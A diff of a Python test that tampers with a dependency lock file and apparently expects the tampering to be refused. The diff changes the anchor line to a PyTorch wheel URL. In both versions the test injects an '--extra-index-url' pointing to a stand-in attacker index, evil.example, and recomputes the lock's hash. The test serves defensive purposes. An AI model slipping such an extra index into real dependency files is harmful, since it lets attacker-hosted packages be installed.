@@ -366,8 +366,8 @@ def test_a_hand_edited_lock_line_is_refused(env, tmp_path) -> None:
     shutil.copytree(ROOT / "locks", locks)
     txt, js = locks / f"{CPU}.txt", locks / f"{CPU}.json"
     txt.write_text(txt.read_text().replace(
-        "--find-links /opt/wheels\n",
-        "--find-links /opt/wheels\n--extra-index-url https://evil.example/simple\n"))
+        "--find-links https://download.pytorch.org/whl/cpu/torch/\n",
+        "--find-links https://download.pytorch.org/whl/cpu/torch/\n--extra-index-url https://evil.example/simple\n"))
     meta = json.loads(js.read_text())
     meta["text_sha256"] = hashlib.sha256(txt.read_bytes()).hexdigest()
     js.write_text(json.dumps(meta))
